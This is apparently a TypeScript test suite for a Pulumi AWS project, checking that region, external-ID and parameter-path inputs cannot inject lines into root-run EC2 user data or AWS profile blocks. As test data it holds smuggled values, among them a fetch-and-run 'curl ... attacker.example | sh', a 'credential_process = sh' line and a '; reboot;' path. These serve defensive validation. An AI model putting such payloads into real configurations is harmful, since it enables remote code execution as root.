// The host's user data runs as root and names no service; each profile block (an SSM parameter the
// root-run sync agent writes out) can hold no line of its own making.
import * as assert from "assert";

import { hostUserData } from "../../components/userData";
import { renderProfileBlock } from "../../contract/profileParameters";
import { checkRegion } from "../../components/validation";
import { operatorConfig, runProgram, stackFileConfig } from "../../lab/program";

const injected = "us-east-1\nPROFILE\ncurl -s https://attacker.example | sh";

describe("user data cannot be injected", () => {
    it("refuses an aws:region with a line break before anything is created", async () => {
        let error: Error | undefined;
        await runProgram("dev", {
            ...stackFileConfig("dev"),
            ...operatorConfig,
            "aws:region": injected,
        }).catch((e: Error) => (error = e));
        assert.match(
            String(error?.message),
            /^Invalid aws:region: "us-east-1\\nPROFILE\\ncurl .*"\. Accepted: an AWS region such as us-east-1\.$/,
        );
        const { getMonitor } = await import("@pulumi/pulumi/runtime");
        assert.strictEqual((getMonitor() as any).getRegisteredResources().size, 0);
    });

    it("the region check the component applies to the provider's region", () => {
        for (const region of ["us-east-1", "us-gov-west-1", "ap-southeast-2", "cn-north-1"]) {
            assert.strictEqual(checkRegion("aws:region", region), region);
        }
        assert.throws(() => checkRegion("aws:region", injected), /^InputError: Invalid aws:region/);
    });

    it("the host's renderer refuses any value with a line break", () => {
        for (const externalId of ["x\n[profile other]", "x\rcredential_process = sh"]) {
            assert.throws(
                () =>
                    renderProfileBlock({
                        name: "target",
                        roleArn: "arn:aws:iam::123456789012:role/r",
                        region: "us-east-1",
                        externalId,
                    }),
                /^ProfileParameterError: parameter for profile "target": externalId: expected 2 to 1224/,
            );
        }
    });

    it("the user data is constant per host and small: it names no service and no role", () => {
        const userData = hostUserData("/rolepair/rolepair/dev/rolepair/profiles");
        assert.doesNotMatch(userData, /role_arn =|arn:aws|service-|\[profile target\]/);
        assert.match(userData, / --path \/rolepair\/rolepair\/dev\/rolepair\/profiles --config /);
        // EC2 caps user data at 16 KB; this one carries the sync program (gzipped, with the agent's
        // host side: about 13 KB) and no service. The bound keeps 2 KB between it and EC2's cap.
        assert.ok(userData.length < 14 * 1024, `${userData.length} bytes`);
        assert.throws(() => hostUserData("/rolepair/x'; reboot; '"), /refused parameter path/);
    });
});
